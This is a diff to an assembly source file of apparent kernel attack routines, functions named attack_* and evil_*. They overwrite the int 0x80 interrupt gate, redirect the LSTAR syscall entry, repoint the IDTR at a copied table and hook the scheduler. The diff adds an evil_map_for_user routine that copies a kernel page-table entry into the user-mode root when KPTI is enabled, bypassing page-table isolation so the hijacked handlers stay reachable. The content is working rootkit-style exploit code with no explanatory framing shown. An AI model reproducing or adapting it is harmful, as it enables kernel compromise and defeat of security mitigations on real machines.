@@ -125,6 +125,7 @@ ENDF attack_xchg
 # The gate of int 0x80: one store of sixteen bytes.
 FUNC attack_idt_entry
     PROLOGUE
+    call evil_map_for_user
     leaq evil_int80(%rip), %rax
     KADDR idt_table+0x80*16, %rbx
     subq $16, %rsp
@@ -175,6 +176,7 @@ ENDF attack_smep_clear
 # Every system call through our own entry.
 FUNC attack_lstar
     PROLOGUE
+    call evil_map_for_user
     leaq evil_entry_SYSCALL_64(%rip), %rax
     movq %rax, %rdx
     shrq $32, %rdx
@@ -187,6 +189,7 @@ ENDF attack_lstar
 # IDTR to a copy of the table.
 FUNC attack_idtr
     PROLOGUE
+    call evil_map_for_user
     KADDR idt_table, %rsi
     leaq evil_idt(%rip), %rdi
     movq %rdi, (evil_idt_descr + 2)(%rip)
@@ -583,6 +586,18 @@ FUNC evil_schedule
     KADDR .Lschedule_hookable_end, %r11
     jmp *%r11
 ENDF evil_schedule
+
+# What user mode comes upon before the kernel's root is loaded has to be in its own root too: the whole module area, by
+# one entry of a table.
+FUNC evil_map_for_user
+    testb $1, %gs:PCPU_KPTI
+    jz 1f
+    KADDR level3_kernel_pgt+511*8, %rax
+    movq (%rax), %rax
+    KADDR level3_entry_pgt+511*8, %rcx
+    movq %rax, (%rcx)
+1:  ret
+ENDF evil_map_for_user
 
 FUNC evil_getpid
     incq evil_hits(%rip)
